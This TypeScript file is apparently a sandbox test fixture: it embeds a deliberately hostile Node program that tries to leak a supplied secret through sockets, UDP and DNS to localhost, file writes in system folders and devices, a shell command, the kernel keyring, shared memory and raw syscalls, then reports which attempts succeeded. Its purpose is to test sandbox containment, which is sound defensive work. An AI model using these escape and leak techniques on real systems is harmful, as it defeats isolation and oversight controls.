// An engine that is hostile on purpose: it tries to send what it is asked out every way it can, then answers how each went.

import type { SandboxedProgram } from '../../../../backend/engine/sandbox/sandboxed-engine.ts';

/** What the host laid out for it to reach, as one JSON argument. */
export interface HostileTargets {
  readonly koffi: string;
  readonly tcpPort: number;
  readonly udpPort: number;
  readonly streamSocket: string;
  readonly abstractSocket: string;
  /** A world-writable folder with a world-writable file `canary` in it. */
  readonly folder: string;
  /** Numbers of add_key, shmget, shmat, memfd_create, socket, exit_group. */
  readonly syscalls: readonly number[];
}

const SOURCE = String.raw`
const [fs, net, dgram, dns, http, cp, path] =
  ['fs', 'net', 'dgram', 'dns', 'http', 'child_process', 'path'].map((name) => require('node:' + name));
const t = JSON.parse(process.argv[1]);
let raw = () => -1;
let address = () => 0;
let text = (v) => Buffer.from(v + '\0');
try {
  const native = { exports: {} };
  process.dlopen(native, t.koffi);
  raw = native.exports.load(null).func('long syscall(long n, intptr_t a, intptr_t b, intptr_t c, intptr_t d, intptr_t e, intptr_t f)');
  address = native.exports.address;
} catch {}
const call = (n, ...w) => { const v = w.map((x) => (Buffer.isBuffer(x) ? address(x) : x)); while (v.length < 6) v.push(0); return raw(n, ...v); };
const later = (start) => new Promise((resolve) => {
  setTimeout(() => resolve('silence'), 1000);
  try { start((error) => resolve(error ? error.code || 'failed' : 'done')); } catch (error) { resolve(error.code || 'failed'); }
});
const now = (go) => { try { go(); return 'done'; } catch (error) { return error.code || 'failed'; } };
const syscall = (go) => (go() < 0 ? 'refused' : 'done');

async function betray(secret) {
  const tries = {};
  const dial = (options) => later((end) => net.connect(options, function () { this.end(secret); end(); }).on('error', end));
  tries.tcp = await dial({ host: '127.0.0.1', port: t.tcpPort });
  tries.unix = await dial({ path: t.streamSocket });
  tries.abstract = await dial({ path: '\0' + t.abstractSocket });
  tries.http = await later((end) => http.get({ host: '127.0.0.1', port: t.tcpPort, path: '/' + secret }, () => end()).on('error', end));
  tries.udp = await later((end) => dgram.createSocket('udp4').on('error', end).send(secret, t.udpPort, '127.0.0.1', end));
  tries.dns = await later((end) => { const r = new dns.Resolver({ timeout: 400, tries: 1 }); r.setServers(['127.0.0.1:' + t.udpPort]); r.resolve(secret.slice(0, 40) + '.example', end); });
  for (const folder of [t.folder, '/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', '/var/log', '/home', '/root', '/', '/channel', '/run/engine', process.cwd(), path.dirname(process.execPath)]) {
    tries['file in ' + folder] = now(() => fs.writeFileSync(path.join(folder, 'cloister-hostile'), secret));
    tries['name in ' + folder] = now(() => fs.mkdirSync(path.join(folder, 'cloister-hostile-' + secret.slice(0, 32))));
    tries['link in ' + folder] = now(() => fs.symlinkSync(secret, path.join(folder, 'cloister-hostile-link')));
  }
  const canary = path.join(t.folder, 'canary');
  tries.append = now(() => fs.appendFileSync(canary, secret));
  tries.times = now(() => fs.utimesSync(canary, parseInt(secret.slice(0, 7), 16), parseInt(secret.slice(7, 14), 16)));
  tries.mode = now(() => fs.chmodSync(canary, parseInt(secret.slice(0, 2), 16)));
  tries['times of the program'] = now(() => fs.utimesSync(process.execPath, 1, parseInt(secret.slice(0, 7), 16)));
  for (const device of ['/dev/kmsg', '/dev/log', '/dev/tty', '/dev/console', '/dev/stdout', '/proc/self/fd/1', '/proc/sys/kernel/core_pattern', '/proc/self/oom_score_adj'])
    tries[device] = now(() => fs.writeFileSync(device, secret));
  tries.logs = now(() => { console.log(secret); console.error(secret); });
  tries.title = now(() => { process.title = secret; });
  const run = (command, ...args) => later((end) => cp.execFile(command, args, end));
  tries.shell = await run('/bin/sh', '-c', 'echo ' + secret + ' > ' + t.folder + '/shell');
  tries.logger = await run('/usr/bin/logger', secret);
  tries.core = now(() => { process.report.directory = t.folder; process.report.writeReport('report.json'); });
  tries.heap = now(() => require('node:v8').writeHeapSnapshot(path.join(t.folder, 'heap')));
  const [addKey, shmget, shmat, memfd, socket] = t.syscalls;
  tries.keyring = syscall(() => call(addKey, text('user'), text('cloister-hostile'), text(secret), secret.length, -4));
  tries['shared memory'] = syscall(() => { const id = call(shmget, 0x434c4f49, 4096, 0o1666); return id < 0 ? id : Number(call(shmat, id, 0, 0)); });
  tries.memfd = syscall(() => call(memfd, text(secret.slice(0, 64)), 0));
  tries.vsock = syscall(() => call(socket, 40, 1, 0));
  tries.netlink = syscall(() => call(socket, 16, 3, 15));
  tries.signal = now(() => process.kill(1, 0));
  return tries;
}
http.createServer((request, response) => {
  let secret = '';
  request.on('data', (piece) => { secret += piece; });
  request.on('end', async () => {
    // straight to the kernel: koffi does not end under a filter
    if (secret === 'leave') call(t.syscalls[5], 0x41);
    response.setHeader('x-nothing', 'y');
    response.end(JSON.stringify(await betray(secret)));
  });
}).listen(process.argv[2] || { fd: 3 });
`;

/** The program; listens on the inherited socket, or on `socket` where it is a foreign engine's. */
export function hostileProgram(targets: HostileTargets, socket = ''): SandboxedProgram {
  return {
    argv: [process.execPath, '--no-warnings', '-e', SOURCE, '--', JSON.stringify(targets), socket],
    env: { HOME: '/' },
    readOnly: [process.execPath, targets.koffi],
    limits: { memoryBytes: 1 << 30, processes: 512, openFiles: 256 },
    ...(socket === '' ? {} : { kind: 'uds' }),
  };
}
